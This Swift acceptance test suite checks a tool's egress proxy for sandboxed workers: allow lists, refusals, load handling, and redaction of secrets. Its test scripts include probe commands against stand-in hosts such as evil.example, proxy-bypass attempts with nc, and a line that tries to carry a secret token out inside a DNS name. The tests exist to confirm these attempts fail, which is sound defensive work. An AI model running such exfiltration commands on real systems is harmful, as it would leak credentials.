import Foundation
import TestSupport
import Testing

extension Acceptance {
    /// Limited egress: no network but the supervisor's proxy, which lets through what is listed and tells what it refused.
    @Suite("Egress", .timeLimit(.minutes(5)))
    struct Egress {
        /// 20 MB that no two bytes of which may be swapped unseen.
        private static let large = [UInt8](
            unsafeUninitializedCapacity: 20_000_000,
            initializingWith: { buffer, count in
                var state: UInt32 = 1
                for index in 0..<20_000_000 {
                    state = state &* 1_664_525 &+ 1_013_904_223
                    buffer[index] = UInt8(state >> 24)
                }
                count = 20_000_000
            })

        /// A web server at every address of this host.
        private static func server() throws -> TCPServer {
            try TCPServer(everywhere: true) { connection in
                let head = String(decoding: connection.readHead(), as: UTF8.self)
                let body = head.contains(" /large ") ? large : Array("hello from the host\n".utf8)
                connection.write("HTTP/1.1 200 OK\r\nContent-Length: \(body.count)\r\nConnection: close\r\n\r\n")
                connection.write(body)
            }
        }

        /// An address of this host that both engines' proxies can reach: Podman's own bridge is there only while it is used.
        private static func gateway() async throws -> String {
            let configuration = try await Engine.docker.api.json("GET", "/networks/bridge")["IPAM"]["Config"]
            return try #require(configuration[0]["Gateway"].string)
        }

        private static func denials(_ fixture: AcodeFixture, _ task: String) async throws -> [String] {
            try await fixture.json("task", "events", task).elements.filter { $0["kind"] == "egress_denied" }
                .compactMap { $0["message"].string }
        }

        @Test("what is listed is reached, through the proxy and by no other way", arguments: Engine.all)
        func allowed(_ engine: Engine) async throws {
            let (open, shut) = (try Self.server(), try Self.server())
            let host = try await Self.gateway()
            let settings: [String: JSONValue] = [
                "workers.egress": ["allow": [.string("\(host):\(open.port)"), "localhost:*"]]
            ]
            try await AcodeFixture.with("egress-\(engine)", settings: settings) { fixture in
                try await fixture.withSupervisor(.of(engine)) { supervisor in
                    let reached = try await fixture.runScript(
                        "ls /sys/class/net; wget -qO- http://\(host):\(open.port)/; echo $HTTPS_PROXY $NO_PROXY;"
                            + " nc -w 3 \(host) \(open.port) </dev/null 2>&1 || echo no other way")
                    #expect(reached.lines.prefix(2) == ["lo", "hello from the host"], "\(reached)")
                    #expect(reached.lines.dropFirst(2).first == "http://127.0.0.1:3128 localhost,127.0.0.1,::1")
                    #expect(reached.lines.last == "no other way")
                    #expect(open.connectionCount == 1)

                    // Refused: an address with another port, three times; a name that isn't listed; one that is, but leads
                    // to this host's loopback, as a name server in the wrong hands can make any name do.
                    let id = try await fixture.submitScript(
                        """
                        for i in 1 2 3; do wget -qO- http://\(host):\(shut.port)/ 2>&1; done
                        wget -qO- http://evil.example/ 2>&1
                        printf 'CONNECT localhost:\(shut.port) HTTP/1.1\\r\\n\\r\\n' | nc -w 5 127.0.0.1 3128
                        printf 'nonsense\\r\\n\\r\\n' | nc -w 5 127.0.0.1 3128
                        exit 3
                        """)
                    let task = try await fixture.waitFor(id, state: "error")
                    let reason = try #require(task["reason"].string)
                    #expect(
                        reason.contains("; workers.egress refused it \(host):\(shut.port), evil.example:80"),
                        "\(reason)")
                    let denials = try await Self.denials(fixture, id)
                    try #require(denials.count == 4, "\(denials)")
                    #expect(denials[0] == "\(host):\(shut.port) is an address that workers.egress does not list")
                    #expect(denials[1] == "evil.example:80 is not allowed by workers.egress")
                    #expect(denials[2].hasPrefix("localhost:\(shut.port) leads to "), "\(denials)")
                    #expect(denials[3] == "\(host):\(shut.port) was refused 3 times")
                    #expect(shut.connectionCount == 0)
                    let log = try await fixture.acode("task", "logs", id).text
                    #expect(log.contains("HTTP/1.1 403 Forbidden"), "\(log)")
                    #expect(log.contains("HTTP/1.1 400 Bad Request"))

                    // The task's own end is none of the worker's fault, and the next finds the way again.
                    let again = try await fixture.runScript("wget -qO- http://\(host):\(open.port)/")
                    #expect(again.text == "hello from the host\n", "\(again)")
                    #expect(!supervisor.process.hasEnded)
                }
            }
        }

        @Test("20 MB and many connections at once arrive whole", arguments: Engine.all)
        func load(_ engine: Engine) async throws {
            let server = try Self.server()
            let host = try await Self.gateway()
            let settings: [String: JSONValue] = [
                "workers.egress": ["allow": [.string("\(host):\(server.port)")]]
            ]
            try await AcodeFixture.with("egress-load-\(engine)", settings: settings) { fixture in
                try await fixture.withSupervisor(.of(engine)) { _ in
                    let url = "http://\(host):\(server.port)"
                    let file = "\(fixture.scratch)/large"
                    try Data(Self.large).write(to: URL(fileURLWithPath: file))
                    let sum = try await ChildProcess.tool(
                        ProcessPlan("/usr/bin/md5sum", [file]), within: .seconds(20)
                    ).text.prefix(32)
                    // The second reader is slow, so that everything on the way has to wait for it.
                    let run = try await fixture.runScript(
                        """
                        wget -qO- \(url)/large | md5sum
                        wget -qO- \(url)/large | (sleep 1; md5sum)
                        for i in $(seq 40); do wget -qO- \(url)/ >> answers & done
                        wait
                        sort answers | uniq -c
                        """, within: .seconds(60))
                    let words = run.lines.map { $0.split(separator: " ").joined(separator: " ") }
                    #expect(words == ["\(sum) -", "\(sum) -", "40 hello from the host"], "\(run)")
                }
            }
        }

        @Test("who hangs up is counted until the other end has, too, and makes no room for more", arguments: Engine.all)
        func goneClients(_ engine: Engine) async throws {
            // It holds its connections without a word, but for what a client is in the middle of when it is killed.
            let release = DispatchSemaphore(value: 0)
            let holder = try TCPServer(everywhere: true) { connection in
                connection.write([UInt8](repeating: 120, count: 100_000))
                // Each lets the next go.
                release.wait()
                release.signal()
            }
            let server = try Self.server()
            let host = try await Self.gateway()
            let settings: [String: JSONValue] = ["workers.egress": ["allow": [.string("\(host):*")]]]
            try await AcodeFixture.with("egress-gone-\(engine)", settings: settings) { fixture in
                var options = PoolOptions()
                // Leaves 64 connections for all workers together, and so 32 for this one.
                options.wrapper = ["/bin/sh", "-c", "ulimit -n 256; exec \"$@\"", "sh"]
                try await fixture.withSupervisor(.of(engine), options) { _ in
                    let run = try await fixture.runScript(
                        """
                        for round in 1 2 3 4 5; do
                            for i in 1 2 3 4 5 6 7 8; do
                                (printf 'CONNECT \(host):\(holder.port) HTTP/1.1\\r\\n\\r\\n'; exec sleep 60) \
                                    | nc 127.0.0.1 3128 | (read line; echo "got $line" >> said; exec sleep 60) &
                            done
                            until [ "$(wc -l < said)" -eq $((8 * round)) ]; do sleep 0.05; done
                            sleep 0.3; killall -9 nc; sleep 0.3; killall -9 sleep
                        done 2>/dev/null
                        tr -d '\\r' < said | sort | uniq -c
                        """, within: .seconds(30))
                    let words = run.lines.map { $0.split(separator: " ").joined(separator: " ") }
                    #expect(words == ["8 got", "32 got HTTP/1.1 200 Connection established"], "\(run)")
                    #expect(holder.connectionCount == 32)
                    release.signal()
                    let ask = "wget -qO- http://\(host):\(server.port)/"
                    let again = try await fixture.runScript("until \(ask); do sleep 0.1; done 2>/dev/null")
                    #expect(again.text == "hello from the host\n", "\(again)")
                }
            }
        }

        @Test("deny: nothing is reached, and the timeline says what was tried", arguments: Engine.all)
        func denied(_ engine: Engine) async throws {
            let secret = "Hidden-\(UUID().uuidString.prefix(8))"
            let port = Loopback.freePort()
            var options = PoolOptions()
            options.flags += ["--listen", "127.0.0.1:\(port)"]
            let settings: [String: JSONValue] = [
                "workers.egress": "deny", "secrets": ["token": ["command": ["printf", .string(secret)]]],
            ]
            try await AcodeFixture.with("egress-deny-\(engine)", settings: settings) { fixture in
                try await fixture.withSupervisor(.of(engine), options) { supervisor in
                    let container = try await supervisor.onlyContainer()
                    #expect(container["HostConfig"]["NetworkMode"] == "none")
                    let worker = try #require(try await supervisor.workers().first?["id"].string)
                    let security = try await fixture.acode("worker", "inspect", "--security", worker)
                    #expect(security.code == 0, "\(security)")
                    let way = security.lines.first { $0.hasPrefix("way out") } ?? ""
                    #expect(way.components(separatedBy: "acode's proxy").count == 3, "\(security)")
                    let id = try await fixture.submitScript("wget -qO- http://example.org/ 2>&1")
                    let task = try await fixture.waitFor(id, state: "error")
                    #expect(
                        task["reason"].string?.contains("workers.egress refused it example.org:80") == true, "\(task)")
                    let denials = try await Self.denials(fixture, id)
                    #expect(denials == ["example.org:80 is not allowed by workers.egress"])

                    // A name that is asked for can carry a secret out of the log as well as any text.
                    let leak = try await fixture.submitScript(
                        "s=$(cat $ACODE_SECRETS_DIR/token); wget -qO- http://$s.example/ 2>/dev/null;"
                            + " wget -qO- http://$(echo $s | tr A-Z a-z).example/ 2>/dev/null; exit 3",
                        ["--secret", "token"])
                    try await fixture.waitFor(leak, state: "error")
                    let told =
                        try await fixture.json("task", "events", leak).encoded()
                        + (try await fixture.acode("task", "show", leak).text)
                        + (try await fixture.acode("task", "logs", leak).text) + supervisor.process.errorText
                        + (try await Curl.get("http://127.0.0.1:\(port)/metrics").body)
                    #expect(told.contains("[secret token].example:80 is not allowed"), "\(told)")
                    #expect(!told.lowercased().contains(secret.lowercased()))
                }
            }
        }

        @Test("local workers are told of the proxy, and everyone is told that they can go around it")
        func local() async throws {
            let server = try Self.server()
            let settings: [String: JSONValue] = [
                "workers.egress": ["allow": [.string("127.0.0.1:\(server.port)")]]
            ]
            try await AcodeFixture.with("egress-local", settings: settings) { fixture in
                try await fixture.withSupervisor(.local) { supervisor in
                    let run = try await fixture.runScript(
                        "curl -s --noproxy '' --max-time 10 http://127.0.0.1:\(server.port)/;"
                            + " curl -s --noproxy '' --max-time 10 http://evil.example/")
                    #expect(run.lines.first == "hello from the host", "\(run)")
                    #expect(run.lines.last == "acode: evil.example:80 is not allowed by workers.egress", "\(run)")
                    #expect(supervisor.process.errorText.contains("workers.egress is not enforced"))
                }
            }
        }

        @Test(
            "without an engine nobody takes the place of containers with less network than this host",
            arguments: [
                ("workers.egress", "deny" as JSONValue), ("workers.docker.network", "none"),
                ("workers.docker.network", "internal"),
            ])
        func noEngine(_ setting: String, _ value: JSONValue) async throws {
            try await AcodeFixture.with("egress-no-engine", settings: [setting: value]) { fixture in
                let start = ["worker", "start", "--engine-socket", "\(fixture.scratch)/none.sock"]
                let refused = try await fixture.acode(start)
                #expect(refused.code == 69, "\(refused)")
                #expect(refused.errorText.contains("\(setting)"), "\(refused)")
                #expect(refused.errorText.contains("workers.fallbackIgnoresNetwork"), "\(refused)")
                let run = try await fixture.acode(
                    ["run", "--engine-socket", "\(fixture.scratch)/none.sock", "--", "true"])
                #expect(run.code == 69, "\(run)")
                let allowed = try await fixture.acode(
                    ["run", "--engine-socket", "\(fixture.scratch)/none.sock", "--", "true"],
                    environment: ["ACODE_WORKERS_FALLBACK_IGNORES_NETWORK": "true"])
                #expect(allowed.code == 0, "\(allowed)")
            }
        }

        @Test("a task may ask for less than its pool permits, and for no more", arguments: Engine.all)
        func narrowed(_ engine: Engine) async throws {
            let (one, other) = (try Self.server(), try Self.server())
            let host = try await Self.gateway()
            let settings: [String: JSONValue] = ["workers.egress": ["allow": [.string("\(host):*"), "*.example.org"]]]
            try await AcodeFixture.with("egress-own-\(engine)", settings: settings) { fixture in
                try await fixture.withSupervisor(.of(engine)) { _ in
                    let own = ["--egress", "\(host):\(one.port)", "--egress", "a.example.org"]
                    let ask = "wget -qO- http://\(host):\(one.port)/; wget -qO- http://\(host):\(other.port)/"
                    let run = try await fixture.submitScript(ask, own)
                    let task = try await fixture.waitFor(run, state: "error")
                    #expect(try await fixture.acode("task", "logs", run).text.contains("hello from the host\n"))
                    #expect(
                        try await Self.denials(fixture, run)
                            == ["\(host):\(other.port) is an address that the task's egress does not list"])
                    #expect(
                        task["reason"].string?.contains("; the task's egress refused it \(host):") == true, "\(task)")
                    #expect(other.connectionCount == 0)
                    let page = try await fixture.acode("task", "show", run).text
                    #expect(page.contains("\(host):\(one.port) a.example.org"), "\(page)")

                    let denied = try await fixture.runScript(
                        "wget -qO- http://\(host):\(one.port)/", ["--egress", "deny"])
                    #expect(denied.code != 0)
                    #expect(one.connectionCount == 1)

                    let wider = try await fixture.acode(
                        "task", "submit", "--egress", "a.example.org", "--egress", "b.example.com", "--", "true")
                    #expect(wider.code == 64, "\(wider)")
                    #expect(wider.errorText.contains("egress b.example.com is not within"), "\(wider)")
                    #expect(wider.errorText.contains("which is \(host):* *.example.org"), "\(wider)")
                    let file = try fixture.file(
                        "tasks.yaml", "tasks:\n- {command: [\"true\"], egress: {allow: [b.example.com]}}\n")
                    let inFile = try await fixture.acode("task", "submit", "--file", file)
                    #expect(inFile.code == 78 && inFile.errorText.contains("tasks[0]"), "\(inFile)")
                    let wrong = try await fixture.acode("task", "submit", "--egress", "http://a/", "--", "true")
                    #expect(wrong.code == 64 && wrong.errorText.contains("--egress"), "\(wrong)")
                }
            }
        }

        @Test("in a pool without limits a task may be limited to what containers reach anyway", arguments: Engine.all)
        func narrowedFromAll(_ engine: Engine) async throws {
            let server = try Self.server()
            let host = try await Self.gateway()
            try await AcodeFixture.with("egress-own-all-\(engine)") { fixture in
                try await fixture.withSupervisor(.of(engine)) { _ in
                    let run = try await fixture.runScript(
                        "ls /sys/class/net; wget -qO- http://\(host):\(server.port)/; wget -qO- http://evil.example/",
                        ["--egress", "\(host):\(server.port)"])
                    #expect(run.lines.prefix(2) == ["lo", "hello from the host"], "\(run)")
                    #expect(run.code != 0)
                    // The proxy is outside the container, whose own loopback is another.
                    let inside = try await fixture.acode(
                        "task", "submit", "--egress", "127.0.0.1:\(server.port)", "--", "true")
                    #expect(inside.code == 64, "\(inside)")
                    #expect(inside.errorText.contains("is an address of this host itself"), "\(inside)")
                }
                // A one-off pool is made for its task, with the user's own rights.
                let socket = try engine.socket
                let oneOff = try await fixture.acode(
                    [
                        "run", "--image", TestImage.busybox, "--engine-socket", socket, "--egress",
                        "127.0.0.1:\(server.port)", "--", "sh", "-c",
                        "printf 'GET http://127.0.0.1:\(server.port)/ HTTP/1.1\\r\\n\\r\\n' | nc 127.0.0.1 3128",
                    ], within: .seconds(40))
                #expect(oneOff.text.hasSuffix("\r\n\r\nhello from the host\n"), "\(oneOff)")
            }
        }
    }
}
